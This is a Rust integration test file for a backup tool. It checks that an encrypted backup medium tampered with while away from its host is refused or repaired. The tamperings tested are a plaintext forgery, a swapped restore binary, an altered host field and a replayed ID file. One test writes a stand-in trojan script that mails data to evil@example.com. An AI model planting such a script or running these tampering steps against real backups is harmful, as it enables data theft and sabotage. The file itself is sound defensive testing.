//! A tray altered while away (issue 11, from an attack on it): a forged plaintext medium
//! under an encrypted one's id is refused on the host that knew it encrypted, and on a bare
//! machine given a key for it; a restore binary replaced on the tray is put back by the next
//! writer; an altered `host:` is notified as tampered; an older ID file put back (with a
//! passphrase since removed) is refused before any write.

#[path = "support/util.rs"]
mod util;
use std::fs;
use std::path::Path;
use util::*;

fn media_id(medium: &Path) -> String {
    media_field(medium, "media_id")
}

fn copy_tree(from: &Path, to: &Path) {
    sh(std::process::Command::new("cp").arg("-a").arg(from).arg(to));
}

/// FORMAT.md "Encryption": "on an encrypted medium [a reader] refuses a plaintext record …
/// so nothing can be downgraded"; issue 11: "a medium whose ID file … was altered is refused".
///
/// The attacker (with the tray, never with any key) replaces the whole `trayback/` of this
/// host's encrypted medium by a plaintext medium of their own making whose `media.yaml`
/// (format 2, no `encryption:`) carries the victim's media id. On the very host that enrolled
/// the encrypted medium — which holds its host key and its tree generation — `list`, `verify`
/// and `restore` read the forgery as a genuine plaintext medium, with no warning: `verify`
/// says "verified", and `restore` writes the attacker's files. `keyring::unlock` returns
/// `Crypt::Plain` for any ID file without an `encryption` section, never asking whether this
/// host knows the id as an encrypted medium, and `Medium::check_generation` skips the
/// rollback check for plaintext. (The writer refuses, as "not proven … MAC does not
/// verify": `Unproven::BadMac`, which the agent reports as `unknown_medium`.)
#[test]
fn an_encrypted_medium_downgraded_to_a_forged_plaintext_one_is_refused_on_its_host() {
    let victim = Env::new(MediumKind::Dir).unwrap();
    write(&victim.src.join("payroll.txt"), b"the real payroll\n");
    victim.init();
    victim.backup(&["--kind", "monthly"]);
    let id = media_id(&victim.medium);

    // The attacker's own plaintext medium, made on their own machine.
    let evil = Env::new(MediumKind::Dir).unwrap();
    write(&evil.src.join("payroll.txt"), b"ATTACKER PAYLOAD\n");
    evil.init_plaintext();
    evil.backup(&["--kind", "monthly"]);
    let theirs = media_id(&evil.medium);

    // Put it in place of the victim's, under the victim's id.
    fs::remove_dir_all(victim.medium.join("trayback")).unwrap();
    copy_tree(
        &evil.medium.join("trayback"),
        &victim.medium.join("trayback"),
    );
    let media = victim.medium.join("trayback/media.yaml");
    let t = fs::read_to_string(&media).unwrap().replace(&theirs, &id);
    fs::write(&media, t).unwrap();
    assert!(t_is_plaintext(&media));

    // Readers on the victim's own host.
    let out = victim.run(&["list", "--medium", "{medium}"]);
    assert!(
        !out.status.success(),
        "list read a plaintext forgery of this host's encrypted medium {id}:\n{}",
        text(&out.stdout)
    );
    assert!(stderr(&out).contains("media.yaml"), "{}", stderr(&out));
    let out = victim.run(&["verify", "--medium", "{medium}", "--all"]);
    assert!(
        !out.status.success(),
        "verify passed a plaintext forgery:\n{}",
        text(&out.stdout)
    );
    let target = victim.path("restored");
    let out = victim.try_restore(1, &target);
    assert!(
        !out.status.success(),
        "restore wrote the forgery's files: {:?}",
        fs::read_to_string(
            target
                .join(victim.src.strip_prefix("/").unwrap())
                .join("payroll.txt")
        )
    );

    // The writer refuses (held).
    let before = fingerprint(&victim.medium);
    let out = victim.run(&[
        "backup", "--medium", "{medium}", "--source", "{src}", "--kind", "monthly",
    ]);
    assert!(!out.status.success());
    assert_eq!(fingerprint(&victim.medium), before);
}

fn t_is_plaintext(media: &Path) -> bool {
    let t = fs::read_to_string(media).unwrap();
    t.contains("format: 2") && !t.contains("encryption")
}

/// Issue 11: the tray carries "a copy of the `trayback` binary … written at enrolment and
/// refreshed when the binary changes"; README-RESTORE.txt tells a person to run it as root on
/// a bare machine. `kit::refresh` decides whether to rewrite the kit by comparing
/// README-RESTORE.txt alone: someone who alters the tray while it is away replaces
/// `trayback-restore` with a program of their own and leaves the README as it was. This host
/// then proves the medium (nothing it authenticates changed), backs up to it again and again,
/// and never puts its own binary back: the trojan stays on the tray, the README beside it
/// still naming the genuine binary's SHA-256, until the day someone restores from it as root.
#[test]
fn a_replaced_restore_binary_does_not_survive_the_next_write() {
    let Some(env) = Env::new(MediumKind::Ext4) else {
        return;
    };
    write(&env.src.join("f"), b"x");
    env.init();
    env.backup(&["--kind", "monthly"]);
    let kit = env.medium.join("trayback-restore");
    assert!(fs::read(&kit).unwrap() == fs::read(bin()).unwrap());
    // Away from the host: the binary replaced, the README left alone.
    fs::write(
        &kit,
        b"#!/bin/sh\necho 'all your data' | mail evil@example.com\n",
    )
    .unwrap();
    write(&env.src.join("g"), b"y");
    env.backup(&["--kind", "weekly"]);
    assert!(
        fs::read(&kit).unwrap() == fs::read(bin()).unwrap(),
        "a writer left a trojan trayback-restore on its tray (the README still names the genuine binary's SHA-256)"
    );
}

#[path = "support/lab.rs"]
mod lab;

/// Issue 11: "a medium whose ID file … was altered is refused before any write. The agent
/// notifies `tampered_medium`." FORMAT.md: a MAC that does not verify with the DK ("any field
/// or slot altered") is **tampered**, and so is an ID file older than the host saw. Someone
/// who alters this host's own encrypted tray while it is away edits one MACed field, `host:`:
/// the agent used to compare the host name before it proved anything and reported the tray as
/// another host's ("unknown"); it now proves a medium it holds a key for whatever host it
/// names. Or they put back the ID file from before the operator set a passphrase. Each is
/// notified as `tampered_medium` and not written; the genuine ID file put back, the agent
/// backs up to the tray again when the next backup is due, unattended.
#[test]
fn this_hosts_tray_altered_while_away_is_notified_as_tampered() {
    use lab::*;
    let mut lab = Lab::new("");
    write(&lab.src.join("f"), b"ours");
    let la = lab.label("A");
    let img = lab.image("a.img", &la, "64M");
    let dev = lab.insert(&img);
    lab.wait_first_monthly(&la);
    let out = lab.ctl(&["eject"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    lab.pull(&dev);
    // The image is edited on mounts of our own, which the agent must not see (they carry the
    // tray's label): it is stopped meanwhile.
    lab.stop_agent();
    // Away: the operator sets a passphrase (the ID file's key slots change, generation 2).
    let mnt = lab.mount_rw(&img, "edit-mnt");
    let media = mnt.join("trayback/media.yaml");
    let older = fs::read_to_string(&media).unwrap();
    let pw = lab.tmp.path().join("pw.txt");
    fs::write(&pw, "a passphrase of the operator's\n").unwrap();
    lab.cli(&[
        "media",
        "passphrase",
        mnt.to_str().unwrap(),
        "--passphrase-file",
        pw.to_str().unwrap(),
    ]);
    let genuine = fs::read_to_string(&media).unwrap();
    sh(std::process::Command::new("umount").arg(&mnt));
    let altered = [
        (
            "host name",
            replace_line(&genuine, "host:", "host: elsewhere"),
        ),
        ("older ID file", older),
    ];
    for (what, text_) in altered {
        let mnt = lab.mount_rw(&img, "edit-mnt");
        fs::write(mnt.join("trayback/media.yaml"), &text_).unwrap();
        sh(std::process::Command::new("umount").arg(&mnt));
        lab.start_agent();
        let notes_before = lab.notes().len();
        let sum = sha(&img);
        let dev = lab.insert(&img);
        let t0 = std::time::Instant::now();
        let n = loop {
            let notes = lab.notes();
            if notes.len() > notes_before {
                break notes[notes_before..].to_vec();
            }
            assert!(
                t0.elapsed().as_secs() < 30,
                "{what}: no notification; log:\n{}",
                lab.log()
            );
            std::thread::sleep(std::time::Duration::from_millis(100));
        };
        std::thread::sleep(std::time::Duration::from_millis(500));
        lab.pull(&dev);
        lab.stop_agent();
        assert_eq!(sha(&img), sum, "{what}: the altered tray was written");
        assert!(
            n.iter().all(|n| n["event"] == "tampered_medium"
                && n["message"].as_str().unwrap().contains("tampered")),
            "{what}: this host's own tray is not notified as tampered: {n:?}"
        );
    }
    // The genuine ID file back: backed up to again, unattended.
    let mnt = lab.mount_rw(&img, "edit-mnt");
    fs::write(mnt.join("trayback/media.yaml"), &genuine).unwrap();
    sh(std::process::Command::new("umount").arg(&mnt));
    lab.start_agent();
    write(&lab.src.join("g"), b"more");
    let _dev = lab.insert(&img);
    lab.wait_for("A back", 30, |s| idle(s, &la));
    lab.advance("15m");
    lab.wait_for("a second backup, unattended", 60, |s| {
        ["monthly", "weekly", "daily", "micro"]
            .iter()
            .any(|k| newest(s, &la, k).is_some_and(|id| id >= 2))
            && idle(s, &la)
    });
}

/// Issue 11: "a medium whose ID file or key wrap was altered is refused before any write";
/// README: `media passphrase --remove` removes the passphrase. The data key never changes,
/// so the ID file from before the removal, put back while the tray is away, still verifies
/// (same DK, same MAC key, same host slot): this host used to prove it and write to it, and
/// the removed passphrase opened the tray again. The ID file now carries a key-slot
/// generation under its MAC and the host remembers the newest it saw
/// (`<id>.media-generation`): the older file is refused as tampered before any write. (On a
/// machine that never saw the medium the removed passphrase still opens the old file: README
/// and FORMAT.md say so, and what to do.)
#[test]
fn a_replayed_id_file_brings_back_a_removed_passphrase_and_is_written_to() {
    let env = Env::new(MediumKind::Dir).unwrap();
    write(&env.src.join("f"), b"x");
    let pw = env.path("pw.txt");
    fs::write(&pw, "hunter2 correct horse\n").unwrap();
    env.ok(&[
        "media",
        "init",
        "{medium}",
        "--label",
        "Test",
        "--passphrase-file",
        pw.to_str().unwrap(),
    ]);
    env.backup(&["--kind", "monthly"]);
    let media = env.medium.join("trayback/media.yaml");
    let old = fs::read(&media).unwrap();
    env.ok(&["media", "passphrase", "{medium}", "--remove"]);
    let bare = env.path("bare");
    let opens = |env: &Env| {
        env.run_as(
            &bare,
            &[
                "list",
                "--medium",
                "{medium}",
                "--key-file",
                pw.to_str().unwrap(),
            ],
        )
        .status
        .success()
    };
    assert!(!opens(&env), "the removed passphrase still opens");
    // Away: the old ID file put back.
    fs::write(&media, &old).unwrap();
    let before = fingerprint(&env.medium);
    let out = env.run(&[
        "backup", "--medium", "{medium}", "--source", "{src}", "--kind", "monthly",
    ]);
    assert!(
        !out.status.success() && fingerprint(&env.medium) == before,
        "this host wrote to a tray whose ID file was rolled back to one with the removed passphrase slot"
    );
    assert!(stderr(&out).contains("media.yaml"), "{}", stderr(&out));
}

/// FORMAT.md: "nothing can be downgraded"; README-RESTORE.txt on the tray tells a person on a
/// bare machine that "each command asks for the recovery key". The tray's `trayback/` replaced
/// by a plaintext forgery (as above): on a machine that never saw the medium, `restore` given
/// the medium's recovery key with `--key-file` used to ignore the key without a word and
/// restore the forgery's files. A reader given a key expects an encrypted medium: a plaintext
/// one is refused with one line, nothing restored.
#[test]
fn a_recovery_key_given_to_a_plaintext_forgery_is_not_silently_ignored() {
    let victim = Env::new(MediumKind::Dir).unwrap();
    write(&victim.src.join("payroll.txt"), b"the real payroll\n");
    let key = victim.init();
    victim.backup(&["--kind", "monthly"]);
    let id = media_id(&victim.medium);
    let evil = Env::new(MediumKind::Dir).unwrap();
    write(&evil.src.join("payroll.txt"), b"ATTACKER PAYLOAD\n");
    evil.init_plaintext();
    evil.backup(&["--kind", "monthly"]);
    let theirs = media_id(&evil.medium);
    fs::remove_dir_all(victim.medium.join("trayback")).unwrap();
    copy_tree(
        &evil.medium.join("trayback"),
        &victim.medium.join("trayback"),
    );
    let media = victim.medium.join("trayback/media.yaml");
    let t = fs::read_to_string(&media).unwrap().replace(&theirs, &id);
    fs::write(&media, t).unwrap();

    let kf = victim.path("recovery.txt");
    fs::write(&kf, format!("{key}\n")).unwrap();
    let target = victim.path("restored");
    let out = victim.run_as(
        &victim.path("bare"),
        &[
            "restore",
            "--medium",
            "{medium}",
            "--backup",
            "1",
            "--to",
            target.to_str().unwrap(),
            "--key-file",
            kf.to_str().unwrap(),
        ],
    );
    let e = stderr(&out);
    assert!(
        !out.status.success() && e.contains("not encrypted") && e.contains("media.yaml"),
        "a recovery key was given, the medium turned out plaintext, and restore did not refuse:\nstdout: {}\nstderr: {e}",
        text(&out.stdout),
    );
    assert_eq!(e.trim().lines().count(), 1, "one line: {e}");
    assert!(!target.exists(), "restore wrote something");
    // A genuine plaintext medium, read without a key, still reads; given a key, refused too.
    let out = evil.run_as(&evil.path("bare"), &["list", "--medium", "{medium}"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = evil.run_as(
        &evil.path("bare"),
        &[
            "list",
            "--medium",
            "{medium}",
            "--key-file",
            kf.to_str().unwrap(),
        ],
    );
    assert!(!out.status.success() && stderr(&out).contains("not encrypted"));
}
